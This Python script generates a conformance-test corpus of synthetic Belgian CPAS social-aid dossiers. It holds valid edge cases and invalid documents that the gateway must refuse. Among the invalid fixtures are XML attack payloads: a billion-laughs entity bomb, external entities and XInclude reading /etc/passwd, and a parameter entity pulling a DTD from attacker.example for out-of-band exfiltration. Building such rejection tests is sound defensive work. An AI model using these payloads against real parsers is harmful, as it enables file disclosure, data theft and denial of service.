"""Write the sample dossier corpus of the conformance suite.

Usage, from the repository root::

    python conformance/make_corpus.py          # (re)write conformance/corpus/
    python conformance/make_corpus.py --check  # exit 1 if the files on disk differ

``corpus/valid/`` holds dossiers that every implementation must accept and
carry unchanged; ``corpus/valid/manifest.json`` says what each one covers.
``corpus/invalid/`` holds hostile or wrong documents; ``corpus/invalid/manifest.json``
gives for each the refusal code expected and a line describing it.

Every person is synthetic (check-digit-valid but invented NISS/BIS numbers);
source CPAS ids are the synthetic enterprise numbers derived from the NIS code
of real municipalities. The output is deterministic: each case draws from its
own random generator seeded with the case name, and all dates are fixed, so
re-running gives byte-identical files and adding a case changes no other.

The oversize case (tens of megabytes) is deliberately absent: tests generate
it in a temporary folder.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import functools
import json
import random
import sys
import unicodedata
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from decimal import Decimal
from importlib import resources
from pathlib import Path
from typing import Any

from lxml import etree

from gateway.model import hardened_xml
from gateway.model.dossier import (
    AidKind,
    Decision,
    DecisionStatus,
    Dossier,
    HouseholdCategory,
    Language,
    LegalBasis,
    legal_basis_for,
)
from gateway.model.identifiers import make_enterprise_number, make_niss
from gateway.testing.synthetic import make_beneficiary, make_decisions

CORPUS = Path(__file__).resolve().parent / "corpus"

SEED = "cpas-dse-corpus-1"
TODAY = dt.date(2026, 9, 30)
"""The corpus's "today": every decision is dated on or before it."""
CREATED_AT = dt.datetime(2026, 10, 1, 8, 30, tzinfo=dt.UTC)

NS = f"{{{hardened_xml.NS_DOSSIER}}}"

# Real municipalities (NIS code) whose CPAS the sample dossiers come from.
BRUXELLES = 21004
ANTWERPEN = 11002
GENT = 44021
LIEGE = 62063
CHARLEROI = 52011
EUPEN = 63023
SANKT_VITH = 63067
NAMUR = 92094
LEUVEN = 24062
BRUGGE = 31005
ARLON = 81001
SCHAERBEEK = 21015


def municipalities() -> dict[int, str]:
    """NIS code -> name (Dutch / French when they differ) of every Belgian municipality."""
    text = resources.files("gateway.data").joinpath("municipalities.csv").read_text("utf-8")
    names = {}
    for row in csv.DictReader(text.splitlines()):
        nl, fr = row["municipality_NL"], row["municipality_FR"]
        names[int(row["NIS_code"])] = nl if nl == fr else f"{nl} / {fr}"
    return names


_MUNICIPALITIES = municipalities()
_NIS_BY_CPAS_ID = {make_enterprise_number(nis): nis for nis in _MUNICIPALITIES}


def cpas_id(nis: int) -> str:
    """The synthetic enterprise number of the CPAS of the municipality ``nis``."""
    if nis not in _MUNICIPALITIES:
        raise KeyError(f"no Belgian municipality has NIS code {nis}")
    return make_enterprise_number(nis)


# --------------------------------------------------------------- helpers


def rebuilt(dossier: Dossier, **changes: Any) -> Dossier:
    """A copy with ``changes``, validated again (``model_copy`` would skip the checks)."""
    return Dossier.model_validate({**dossier.model_dump(), **changes})


def with_person(dossier: Dossier, **changes: Any) -> Dossier:
    """A copy whose person has ``changes``."""
    return rebuilt(dossier, person={**dossier.person.model_dump(), **changes})


def born(dossier: Dossier, rng: random.Random, birth: dt.date, *, bis_offset: int = 0) -> Dossier:
    """A copy of ``dossier`` whose person was born on ``birth``, with a matching number."""
    number = make_niss(birth, rng.randint(1, 998), bis_offset=bis_offset)
    return with_person(
        dossier,
        birth_date=birth,
        niss=None if bis_offset else number,
        bis=number if bis_offset else None,
    )


def person_number(yymmdd: str, serial: int, *, born_2000_or_later: bool) -> str:
    """Check digits for a number whose date part is given as is (zeros for unknown parts)."""
    body = f"{yymmdd}{serial:03d}"
    base = int(("2" if born_2000_or_later else "") + body)
    return f"{body}{97 - base % 97:02d}"


def sample(
    rng: random.Random,
    nis: int,
    *,
    decisions: int = 3,
    kinds: list[AidKind] | None = None,
    **person: Any,
) -> Dossier:
    """A synthetic dossier of the CPAS of ``nis`` with ``decisions`` dated up to :data:`TODAY`."""
    base = make_beneficiary(
        rng,
        cpas_id(nis),
        decisions=0,
        with_sensitive=False,
        created_at=CREATED_AT,
        **person,
    ).dossier
    history = make_decisions(rng, decisions, base.household.category, kinds=kinds, today=TODAY)
    return rebuilt(
        base,
        aid_history=history,
        last_social_inquiry=history[-1].decision_date if history else None,
    )


def with_decisions(dossier: Dossier, *decisions: dict[str, Any]) -> Dossier:
    """A copy whose history is ``decisions``: each dict overrides a plain default decision."""
    history = []
    for index, changes in enumerate(decisions, start=1):
        kind = changes.get("kind", AidKind.INTEGRATION_INCOME)
        fields: dict[str, Any] = {
            "decision_id": f"DEC-{index:04d}",
            "kind": kind,
            "legal_basis": legal_basis_for(kind),
            "decision_date": dt.date(2026, (index - 1) % 9 + 1, 10),
            "period_start": dt.date(2026, (index - 1) % 9 + 1, 1),
            "period_end": None,
            "status": DecisionStatus.GRANTED,
            "monthly_amount": None,
            **changes,
        }
        history.append(Decision(**fields))
    return rebuilt(dossier, aid_history=history)


# --------------------------------------------------------------- valid cases


@dataclass(frozen=True)
class ValidCase:
    """A dossier every implementation must accept; ``build`` draws from its own generator."""

    name: str
    description: str
    build: Callable[[random.Random], Dossier]
    serialise: Callable[[Dossier], bytes] = Dossier.to_xml


VALID: list[ValidCase] = []


def valid(
    name: str, description: str, *, serialise: Callable[[Dossier], bytes] = Dossier.to_xml
) -> Callable[[Callable[[random.Random], Dossier]], Callable[[random.Random], Dossier]]:
    """Register a valid case."""

    def register(build: Callable[[random.Random], Dossier]) -> Callable[[random.Random], Dossier]:
        VALID.append(ValidCase(name, description, build, serialise))
        return build

    return register


@valid("niss-born-before-2000", "NISS of a person born in 1968: check digits on the nine digits.")
def _(rng: random.Random) -> Dossier:
    return born(sample(rng, BRUXELLES, language=Language.FR), rng, dt.date(1968, 3, 14))


@valid("born-after-2000", "NISS of a person born in 2004: check digits on 2 + the nine digits.")
def _(rng: random.Random) -> Dossier:
    return born(sample(rng, ANTWERPEN, language=Language.NL), rng, dt.date(2004, 11, 2))


@valid("niss-born-2000-01-01", "NISS of a person born on the first day the 2000 rule applies.")
def _(rng: random.Random) -> Dossier:
    return born(sample(rng, GENT, language=Language.NL), rng, dt.date(2000, 1, 1))


@valid("niss-born-1999-12-31", "NISS of a person born on the last day of the pre-2000 rule.")
def _(rng: random.Random) -> Dossier:
    return born(sample(rng, LIEGE, language=Language.FR), rng, dt.date(1999, 12, 31))


@valid("niss-born-1900-01-01", "Earliest birth date the schema accepts (1 January 1900).")
def _(rng: random.Random) -> Dossier:
    return born(sample(rng, NAMUR, language=Language.FR), rng, dt.date(1900, 1, 1))


@valid("bis-number-sex-unknown", "BIS number with the month raised by 20 (sex unknown).")
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, SCHAERBEEK, language=Language.FR)
    return born(dossier, rng, dt.date(1987, 6, 21), bis_offset=20)


@valid("bis-number-sex-known", "BIS number with the month raised by 40 (sex known).")
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, LEUVEN, language=Language.NL)
    return born(dossier, rng, dt.date(1979, 12, 5), bis_offset=40)


@valid("bis-number-born-after-2000", "BIS number (+40) of a person born in 2003 (2 + nine digits).")
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, CHARLEROI, language=Language.FR)
    return born(dossier, rng, dt.date(2003, 2, 28), bis_offset=40)


@valid(
    "bis-number-birth-month-and-day-unknown",
    "BIS number issued without a known birth month and day (zeros after the +20).",
)
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, BRUXELLES, language=Language.FR)
    number = person_number("912000", rng.randint(1, 998), born_2000_or_later=False)
    return with_person(dossier, niss=None, bis=number, birth_date=dt.date(1991, 1, 1))


@valid("name-dhondt-apostrophe", "Family name with an ASCII apostrophe (D'Hondt).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, GENT, family_name="D'Hondt", given_names=["Pieter"], language=Language.NL)


@valid("name-typographic-apostrophe", "Family name with a typographic apostrophe (O’Connor).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, BRUGGE, family_name="O’Connor", given_names=["Siobhan"])


@valid(
    "name-muller-ludenscheidt-hyphen",
    "Hyphenated family name with umlauts (Müller-Lüdenscheidt), German-speaking CPAS.",
)
def _(rng: random.Random) -> Dossier:
    return sample(
        rng,
        EUPEN,
        family_name="Müller-Lüdenscheidt",
        given_names=["Jürgen"],
        language=Language.DE,
    )


@valid("name-lefevre-grave-accent", "Family and given names with accents (Lefèvre, Élodie).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, LIEGE, family_name="Lefèvre", given_names=["Élodie"], language=Language.FR)


@valid("name-nguyen-vietnamese", "Vietnamese name with stacked diacritics (Nguyễn Thị Minh).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, ANTWERPEN, family_name="Nguyễn", given_names=["Thị", "Minh"])


@valid("name-o-briain-space", "Family name with a space and an acute accent (Ó Briain).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, NAMUR, family_name="Ó Briain", given_names=["Siobhán"])


@valid(
    "name-combining-marks",
    "Names in decomposed form (NFD): letters followed by combining marks.",
)
def _(rng: random.Random) -> Dossier:
    return sample(
        rng,
        ARLON,
        family_name=unicodedata.normalize("NFD", "Lefèvre"),
        given_names=[unicodedata.normalize("NFD", "Zoë")],
    )


@valid("name-80-characters", "Family name of exactly 80 characters, the longest accepted.")
def _(rng: random.Random) -> Dossier:
    name = "Van den Bossche-de Schaetzen-Vanderhaeghen-Verstraete-Vandeputte-Vermeulen-Wéry"
    return sample(rng, BRUGGE, family_name=(name + "x" * 80)[:80], given_names=["Dirk"])


@valid("given-names-four", "Four given names, the most accepted, with hyphens and diaereses.")
def _(rng: random.Random) -> Dossier:
    return sample(
        rng,
        CHARLEROI,
        family_name="Désiré",
        given_names=["Jean-Luc", "Marie", "Thérèse", "Anaïs"],
    )


@valid("given-name-initial", "A given name written as an initial with a full stop (J.).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, LEUVEN, family_name="Peeters", given_names=["Jan", "J."])


@valid("history-empty", "No decision yet, and so no last social inquiry.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, SCHAERBEEK, decisions=0)


@valid("history-200-decisions", "A long aid history: exactly 200 decisions.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, ANTWERPEN, decisions=200)


@valid("history-every-aid-kind", "One decision of every kind of aid, each on its legal basis.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, BRUXELLES, decisions=len(AidKind), kinds=list(AidKind))


@valid("history-every-status", "Decisions granted, revised and ended.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, GENT),
        {"status": DecisionStatus.ENDED, "period_end": dt.date(2026, 3, 31)},
        {"status": DecisionStatus.REVISED, "monthly_amount": Decimal("1314.20")},
        {"status": DecisionStatus.GRANTED, "monthly_amount": Decimal("1350.72")},
    )


@valid("household-cohabitant", "Household category: cohabitant, no dependent child.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, LIEGE, category=HouseholdCategory.COHABITANT)


@valid("household-isolated", "Household category: isolated (living alone).")
def _(rng: random.Random) -> Dossier:
    return sample(rng, NAMUR, category=HouseholdCategory.ISOLATED)


@valid("household-family-dependants", "Household category: with family dependants.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, CHARLEROI, category=HouseholdCategory.FAMILY_DEPENDANTS)


@valid("household-20-dependent-children", "The largest number of dependent children (20).")
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, BRUXELLES, category=HouseholdCategory.FAMILY_DEPENDANTS)
    return rebuilt(dossier, household={**dossier.household.model_dump(), "dependent_children": 20})


@valid("language-fr", "A French-speaking person, Walloon CPAS.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, CHARLEROI, language=Language.FR)


@valid("language-nl", "A Dutch-speaking person, Flemish CPAS.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, GENT, language=Language.NL)


@valid("language-de", "A German-speaking person, CPAS of the German-speaking Community.")
def _(rng: random.Random) -> Dossier:
    return sample(rng, SANKT_VITH, language=Language.DE)


@valid("contact-without-phone", "Contact point with a service mailbox and no phone number.")
def _(rng: random.Random) -> Dossier:
    dossier = sample(rng, ARLON)
    source = dossier.source.model_dump()
    return rebuilt(dossier, source={**source, "contact": {**source["contact"], "phone": None}})


@valid("decision-open-ended", "A current decision without period end.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(sample(rng, LEUVEN), {"monthly_amount": Decimal("1314.20")})


@valid("decision-without-amount", "Non-periodic aid (urgent medical aid) without an amount.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, BRUXELLES),
        {"kind": AidKind.URGENT_MEDICAL_AID, "period_end": dt.date(2026, 5, 31)},
    )


@valid("no-last-social-inquiry", "An aid history but no date of last social inquiry.")
def _(rng: random.Random) -> Dossier:
    return rebuilt(sample(rng, SCHAERBEEK), last_social_inquiry=None)


@valid("amount-zero", "A monthly amount of 0.00 euro.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, EUPEN, language=Language.DE), {"monthly_amount": Decimal("0.00")}
    )


@valid("amount-maximum", "The largest monthly amount accepted, 99999.99 euro.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, ANTWERPEN),
        {"kind": AidKind.OTHER_FINANCIAL_AID, "monthly_amount": Decimal("99999.99")},
    )


@valid("amount-large", "Large amounts of several kinds (rent guarantee, installation premium).")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, BRUGGE),
        {"kind": AidKind.RENT_GUARANTEE, "monthly_amount": Decimal("24750.00")},
        {"kind": AidKind.INSTALLATION_PREMIUM, "monthly_amount": Decimal("10999.95")},
    )


@valid("period-single-day", "A decision whose period starts and ends on the same day.")
def _(rng: random.Random) -> Dossier:
    return with_decisions(
        sample(rng, NAMUR),
        {"kind": AidKind.HEATING_ALLOWANCE, "period_end": dt.date(2026, 1, 1)},
    )


@valid(
    "everything-present", "Every optional element present: phone, period ends, amounts, inquiry."
)
def _(rng: random.Random) -> Dossier:
    dossier = with_decisions(
        sample(rng, LIEGE),
        {"period_end": dt.date(2026, 2, 28), "monthly_amount": Decimal("876.13")},
        {"period_end": dt.date(2026, 12, 31), "monthly_amount": Decimal("1314.20")},
    )
    return rebuilt(dossier, last_social_inquiry=dt.date(2026, 9, 15))


@valid(
    "case-reference-longest", "Case and decision references of 64 characters, every sign allowed."
)
def _(rng: random.Random) -> Dossier:
    reference = ("CPAS/2026-00042_a.b" * 4)[:64]
    dossier = with_decisions(sample(rng, SCHAERBEEK), {"decision_id": reference[::-1]})
    return rebuilt(dossier, source={**dossier.source.model_dump(), "case_reference": reference})


def _prefixed(dossier: Dossier) -> bytes:
    # Same document with the prefix "d:" instead of the default namespace.
    source = dossier.to_element()
    root = etree.Element(source.tag, nsmap={"d": hardened_xml.NS_DOSSIER})
    root.attrib.update(source.attrib)
    root.extend(source)
    return hardened_xml.to_bytes(root)


def _compact(dossier: Dossier) -> bytes:
    # One line, no declaration: the XML is the same, only whitespace differs.
    return etree.tostring(dossier.to_element(), encoding="UTF-8")


def _commented(dossier: Dossier) -> bytes:
    # Comments and CRLF line ends, as some tools write them: both carry nothing.
    root = dossier.to_element()
    root.insert(0, etree.Comment(" synthetic sample "))
    root.find(NS + "person").append(etree.Comment(" comments never reach the model "))
    text = hardened_xml.to_bytes(root)
    return text.replace(b"\n", b"\r\n")


@valid(
    "serialised-with-prefix",
    "Namespace bound to a prefix (d:) instead of the default.",
    serialise=_prefixed,
)
def _(rng: random.Random) -> Dossier:
    return sample(rng, GENT)


@valid(
    "serialised-on-one-line",
    "No XML declaration and no whitespace between elements.",
    serialise=_compact,
)
def _(rng: random.Random) -> Dossier:
    return sample(rng, LIEGE)


@valid("serialised-with-comments-crlf", "XML comments and CRLF line ends.", serialise=_commented)
def _(rng: random.Random) -> Dossier:
    return sample(rng, EUPEN, language=Language.DE)


# --------------------------------------------------------------- invalid cases


@dataclass(frozen=True)
class InvalidCase:
    """A document every implementation must refuse, with ``code``."""

    name: str
    code: str
    description: str
    build: Callable[[], bytes]


INVALID: list[InvalidCase] = []


def invalid(name: str, code: str, description: str) -> Callable[[Callable[[], bytes]], Any]:
    """Register an invalid case."""

    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        INVALID.append(InvalidCase(name, code, description, build))
        return build

    return register


@functools.cache
def base_dossier() -> Dossier:
    """The valid dossier the invalid cases are made from (born 1985, three decisions)."""
    rng = random.Random(f"{SEED}:invalid-base")
    dossier = born(
        sample(
            rng,
            BRUXELLES,
            family_name="Peeters",
            given_names=["Marie"],
            category=HouseholdCategory.ISOLATED,
            language=Language.FR,
        ),
        rng,
        dt.date(1985, 7, 30),
    )
    return with_decisions(
        dossier,
        {"period_end": dt.date(2026, 1, 31), "monthly_amount": Decimal("1314.20")},
        {"kind": AidKind.HEATING_ALLOWANCE, "period_end": dt.date(2026, 2, 28)},
        {"monthly_amount": Decimal("1350.72")},
    )


def base_xml() -> bytes:
    """The base dossier as bytes."""
    return base_dossier().to_xml()


def mutated(change: Callable[[etree._Element], object]) -> bytes:
    """The base dossier after ``change`` on its element tree."""
    root = base_dossier().to_element()
    change(root)
    return hardened_xml.to_bytes(root)


def first(root: etree._Element, path: str) -> etree._Element:
    """The first element at ``path`` (local names separated by ``/``)."""
    found = root.find("/".join(NS + part for part in path.split("/")))
    if found is None:
        raise LookupError(path)
    return found


def set_text(path: str, text: str) -> Callable[[etree._Element], None]:
    """A change that sets the text of the first element at ``path``."""

    def change(root: etree._Element) -> None:
        first(root, path).text = text

    return change


def append(path: str, xml: str) -> Callable[[etree._Element], None]:
    """A change that appends the element ``xml`` (dossier namespace by default) to ``path``."""

    def change(root: etree._Element) -> None:
        wrapper = etree.fromstring(f'<w xmlns="{hardened_xml.NS_DOSSIER}">{xml}</w>')
        first(root, path).extend(wrapper)

    return change


def with_doctype(doctype: str, family_name: str, *, encoding: str = "UTF-8") -> bytes:
    """The base dossier behind ``doctype``, its family name replaced by ``family_name``."""
    body = base_dossier().to_element()
    first(body, "person/familyName").text = "FAMILY-NAME"
    text = etree.tostring(body, encoding="unicode", pretty_print=True)
    text = text.replace("FAMILY-NAME", family_name)
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    return f"{declaration}\n{doctype}\n{text}".encode(encoding.lower())


def bad_check_digits(number: str) -> str:
    """The same number with check digits off by one."""
    return f"{number[:9]}{(int(number[9:]) + 1) % 100:02d}"


@invalid(
    "entity-bomb-billion-laughs",
    "xml.doctype",
    "Billion laughs: nested entities that expand to gigabytes.",
)
def _() -> bytes:
    entities = ['  <!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'  <!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    doctype = "<!DOCTYPE dossier [\n" + "\n".join(entities) + "\n]>"
    return with_doctype(doctype, "&lol9;")


@invalid(
    "external-entity-etc-passwd",
    "xml.doctype",
    "External entity reading file:///etc/passwd into a name.",
)
def _() -> bytes:
    doctype = '<!DOCTYPE dossier [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>'
    return with_doctype(doctype, "&xxe;")


@invalid("external-dtd", "xml.doctype", "External DTD that would be fetched from the network.")
def _() -> bytes:
    return with_doctype(
        '<!DOCTYPE dossier SYSTEM "http://dtd.attacker.example/dossier.dtd">', "Peeters"
    )


@invalid(
    "parameter-entity-out-of-band",
    "xml.doctype",
    "Parameter entity loading a remote DTD (out-of-band exfiltration).",
)
def _() -> bytes:
    doctype = (
        "<!DOCTYPE dossier [\n"
        '  <!ENTITY % remote SYSTEM "http://attacker.example/exfiltrate.dtd">\n'
        "  %remote;\n"
        "]>"
    )
    return with_doctype(doctype, "Peeters")


@invalid(
    "external-entity-utf16",
    "xml.encoding",
    "External entity hidden in a UTF-16 document: only UTF-8 is accepted.",
)
def _() -> bytes:
    doctype = '<!DOCTYPE dossier [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>'
    return with_doctype(doctype, "&xxe;", encoding="UTF-16")


@invalid("xinclude-etc-passwd", "xml.xinclude", "XInclude of file:///etc/passwd as text.")
def _() -> bytes:
    return mutated(
        append(
            "person",
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/passwd" parse="text"/>',
        )
    )


@invalid("deep-nesting", "xml.too_deep", "Elements nested 40 levels deep.")
def _() -> bytes:
    nested = "<aidHistory>" * 40 + "</aidHistory>" * 40
    return mutated(append("aidHistory", nested))


@invalid("malformed-truncated", "xml.malformed", "A dossier cut off in the middle.")
def _() -> bytes:
    data = base_xml()
    return data[: len(data) // 2]


@invalid(
    "malformed-latin1-undeclared",
    "xml.malformed",
    "Latin-1 bytes in a document that declares UTF-8.",
)
def _() -> bytes:
    return base_xml().replace(b"<familyName>Peeters", "<familyName>Lefèvre".encode("latin-1"))


@invalid("empty-file", "xml.malformed", "An empty file.")
def _() -> bytes:
    return b""


@invalid(
    "namespace-version-2",
    "schema.namespace",
    "A dossier of a schema version this gateway does not know (namespace :2).",
)
def _() -> bytes:
    return base_xml().replace(b"urn:be:cpas:dse:dossier:1", b"urn:be:cpas:dse:dossier:2")


@invalid("namespace-missing", "schema.namespace", "A dossier without namespace.")
def _() -> bytes:
    return base_xml().replace(b' xmlns="urn:be:cpas:dse:dossier:1"', b"")


@invalid("root-not-a-dossier", "schema.namespace", "An XHTML page instead of a dossier.")
def _() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Peeters</p></body></html>\n'
    )


@invalid(
    "schema-version-attribute-2", "schema.invalid", "schemaVersion 2 in the namespace of version 1."
)
def _() -> bytes:
    return mutated(lambda root: root.set("schemaVersion", "2"))


@invalid(
    "extra-activation-element",
    "schema.invalid",
    "An activation measure smuggled in as an extra element.",
)
def _() -> bytes:
    return mutated(
        append("person", "<activation>Article 60 work placement at the park service</activation>")
    )


@invalid("extra-note-element", "schema.invalid", "A social worker's note smuggled into a decision.")
def _() -> bytes:
    return mutated(
        append("aidHistory/decision", "<note>Refused to attend the budget course twice</note>")
    )


@invalid(
    "extra-attribute",
    "schema.invalid",
    "A refusal reason carried in an attribute the schema does not have.",
)
def _() -> bytes:
    return mutated(
        lambda root: first(root, "aidHistory/decision").set(
            "reason", "Applicant did not cooperate with the social inquiry"
        )
    )


@invalid(
    "foreign-namespace-element",
    "schema.invalid",
    "A vendor element from another namespace (a sanction).",
)
def _() -> bytes:
    return mutated(
        append(
            "household",
            '<v:sanction xmlns:v="urn:vendor:example">Integration income suspended</v:sanction>',
        )
    )


@invalid(
    "xinclude-old-namespace",
    "schema.invalid",
    "An include element of the 2003 XInclude draft: never processed, refused by the schema.",
)
def _() -> bytes:
    return mutated(
        append(
            "person",
            '<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="file:///etc/passwd"/>',
        )
    )


@invalid("mixed-content-text", "schema.invalid", "Free text between the elements of the household.")
def _() -> bytes:
    return mutated(
        lambda root: setattr(first(root, "household/category"), "tail", "Partner works undeclared")
    )


@invalid("niss-bad-checksum", "niss.checksum", "NISS whose check digits do not match.")
def _() -> bytes:
    return mutated(set_text("person/niss", bad_check_digits(base_dossier().person.number)))


@invalid("niss-month-13", "niss.format", "NISS with valid check digits but a 13th month.")
def _() -> bytes:
    return mutated(set_text("person/niss", person_number("851330", 33, born_2000_or_later=False)))


@invalid(
    "niss-birth-date-mismatch",
    "person.birth_date_mismatch",
    "NISS of someone born in 1985 for a person born in 1986.",
)
def _() -> bytes:
    return mutated(set_text("person/birthDate", "1986-07-30"))


@invalid("bis-bad-checksum", "bis.checksum", "BIS number whose check digits do not match.")
def _() -> bytes:
    number = make_niss(dt.date(1985, 7, 30), 33, bis_offset=40)

    def change(root: etree._Element) -> None:
        niss = first(root, "person/niss")
        niss.tag = NS + "bis"
        niss.text = bad_check_digits(number)

    return mutated(change)


@invalid(
    "bis-month-offset-60", "bis.format", "BIS number with the month raised by 60 (no such offset)."
)
def _() -> bytes:
    def change(root: etree._Element) -> None:
        niss = first(root, "person/niss")
        niss.tag = NS + "bis"
        niss.text = person_number("856730", 33, born_2000_or_later=False)

    return mutated(change)


@invalid("niss-given-as-bis", "bis.format", "A NISS in the element for a BIS number.")
def _() -> bytes:
    return mutated(lambda root: setattr(first(root, "person/niss"), "tag", NS + "bis"))


@invalid("niss-and-bis", "schema.invalid", "Both a NISS and a BIS number.")
def _() -> bytes:
    def change(root: etree._Element) -> None:
        bis = etree.Element(NS + "bis")
        bis.text = make_niss(dt.date(1985, 7, 30), 33, bis_offset=20)
        first(root, "person/niss").addnext(bis)

    return mutated(change)


@invalid("person-number-missing", "schema.invalid", "A person without NISS or BIS number.")
def _() -> bytes:
    return mutated(lambda root: first(root, "person").remove(first(root, "person/niss")))


@invalid(
    "enterprise-number-bad-checksum",
    "enterprise.checksum",
    "Source CPAS id whose check digits do not match.",
)
def _() -> bytes:
    number = cpas_id(BRUXELLES)
    return mutated(set_text("source/cpasId", f"{number[:8]}{(int(number[8:]) + 1) % 100:02d}"))


@invalid("period-reversed", "period.reversed", "A decision whose period ends before it starts.")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/periodEnd", "2025-12-31"))


@invalid("amount-negative", "schema.invalid", "A negative monthly amount.")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/monthlyAmount", "-1314.20"))


@invalid("amount-three-decimals", "schema.invalid", "A monthly amount with three decimals.")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/monthlyAmount", "1314.205"))


@invalid(
    "amount-above-maximum",
    "schema.invalid",
    "A monthly amount of 100000.00 euro, above the maximum.",
)
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/monthlyAmount", "100000.00"))


@invalid("amount-decimal-comma", "schema.invalid", "A monthly amount written with a decimal comma.")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/monthlyAmount", "1314,20"))


@invalid("aid-kind-unknown", "schema.invalid", "A kind of aid outside the closed list (sanction).")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/kind", "sanction"))


@invalid("decision-in-future", "decision.future", "A decision dated in 2999.")
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/decisionDate", "2999-01-01"))


@invalid(
    "legal-basis-wrong-for-kind",
    "decision.legal_basis",
    "Integration income on the 1976 organic law instead of the 2002 law.",
)
def _() -> bytes:
    return mutated(set_text("aidHistory/decision/legalBasis", LegalBasis.ORGANIC_CPAS_1976.value))


@invalid("inquiry-in-future", "inquiry.future", "A last social inquiry dated in 2999.")
def _() -> bytes:
    return mutated(set_text("lastSocialInquiry", "2999-01-01"))


@invalid("birth-date-in-future", "person.birth_date", "A person born in 2999.")
def _() -> bytes:
    return mutated(set_text("person/birthDate", "2999-07-30"))


@invalid(
    "birth-date-before-1900", "schema.invalid", "A birth date in 1899, before the schema's minimum."
)
def _() -> bytes:
    return mutated(set_text("person/birthDate", "1899-12-31"))


@invalid("given-names-five", "schema.invalid", "Five given names, one more than accepted.")
def _() -> bytes:
    def change(root: etree._Element) -> None:
        given = first(root, "person/givenName")
        for name in ("Zoë", "Emma", "Louise", "Anne"):
            extra = etree.Element(NS + "givenName")
            extra.text = name
            given.addnext(extra)

    return mutated(change)


@invalid("name-with-digits", "schema.invalid", "A family name containing digits.")
def _() -> bytes:
    return mutated(set_text("person/familyName", "Peeters2"))


@invalid("name-too-long", "schema.invalid", "A family name of 81 characters.")
def _() -> bytes:
    return mutated(set_text("person/familyName", "P" * 81))


@invalid(
    "case-reference-sentence", "schema.invalid", "A sentence smuggled in as the case reference."
)
def _() -> bytes:
    return mutated(set_text("source/caseReference", "Refused to cooperate with the inquiry"))


@invalid("timestamp-without-zone", "schema.invalid", "A creation time without time zone.")
def _() -> bytes:
    return mutated(set_text("createdAt", "2026-10-01T08:30:00"))


@invalid(
    "dependent-children-21", "schema.invalid", "21 dependent children, one more than accepted."
)
def _() -> bytes:
    return mutated(set_text("household/dependentChildren", "21"))


@invalid("dossier-id-upper-case", "schema.invalid", "A dossier id in upper-case hexadecimal.")
def _() -> bytes:
    return mutated(set_text("dossierId", str(base_dossier().dossier_id).upper()))


# --------------------------------------------------------------- writing


def build_corpus() -> dict[str, bytes]:
    """Every corpus file, by path relative to the corpus folder."""
    files: dict[str, bytes] = {}
    valid_manifest: dict[str, dict[str, str]] = {}
    for case in VALID:
        filename = f"{case.name}.xml"
        dossier = case.build(random.Random(f"{SEED}:{case.name}"))
        files[f"valid/{filename}"] = case.serialise(dossier)
        nis = _NIS_BY_CPAS_ID[dossier.source.cpas_id]
        valid_manifest[filename] = {
            "description": case.description,
            "source": f"CPAS of {_MUNICIPALITIES[nis]} (NIS {nis})",
        }
    invalid_manifest: dict[str, dict[str, str]] = {}
    for bad in INVALID:
        filename = f"{bad.name}.xml"
        files[f"invalid/{filename}"] = bad.build()
        invalid_manifest[filename] = {"code": bad.code, "description": bad.description}
    files["valid/manifest.json"] = _json(valid_manifest)
    files["invalid/manifest.json"] = _json(invalid_manifest)
    return files


def _json(value: object) -> bytes:
    return (json.dumps(value, indent=2, ensure_ascii=False, sort_keys=True) + "\n").encode()


def differences(root: Path, files: dict[str, bytes]) -> list[str]:
    """Relative paths that are missing, different or extra under ``root``."""
    on_disk = {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}
    changed = [name for name, data in files.items() if not _same(root / name, data)]
    return sorted(changed + [name for name in on_disk if name not in files])


def _same(path: Path, data: bytes) -> bool:
    return path.is_file() and path.read_bytes() == data


def write_corpus(root: Path, files: dict[str, bytes]) -> None:
    """Write ``files`` under ``root``, removing corpus files that are no longer generated."""
    for stale in differences(root, files):
        if stale not in files:
            (root / stale).unlink()
    for name, data in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not _same(path, data):
            path.write_bytes(data)


